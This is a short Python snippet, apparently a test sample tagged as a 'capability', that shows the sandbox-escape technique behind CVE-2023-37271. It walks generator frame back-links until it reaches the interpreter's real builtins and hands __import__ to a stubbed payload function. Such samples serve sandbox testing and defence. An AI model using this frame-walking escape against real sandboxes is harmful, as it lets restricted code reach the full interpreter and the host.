# kind: capability
# CVE-2023-37271: a generator's frame, then f_back up to a frame whose
# builtins are the interpreter's own.
def gen():
    yield g.gi_frame.f_back


g = gen()
f = next(g)
while f is not None:
    if "open" in f.f_builtins:
        payload(f.f_builtins["__import__"])
        break
    f = f.f_back
